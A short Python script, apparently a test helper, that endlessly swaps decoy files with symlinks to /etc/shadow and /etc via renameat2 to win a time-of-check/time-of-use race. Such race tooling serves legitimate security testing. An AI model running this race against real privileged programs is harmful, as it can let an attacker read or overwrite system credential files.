"""Exchanges a file and a directory with symlinks as fast as it can, until it is killed."""

import ctypes
import os

RENAME_EXCHANGE = 2
libc = ctypes.CDLL(None, use_errno=True)
os.makedirs("race/directory", exist_ok=True)
os.chdir("race")
for path in ["file", "directory/shadow"]:
    with open(path, "w") as file:
        file.write("mine")
os.symlink("/etc/shadow", "link")
os.symlink("/etc", "link-to-directory")
print("racing", flush=True)
while True:
    libc.renameat2(-100, b"file", -100, b"link", RENAME_EXCHANGE)
    libc.renameat2(-100, b"directory", -100, b"link-to-directory", RENAME_EXCHANGE)
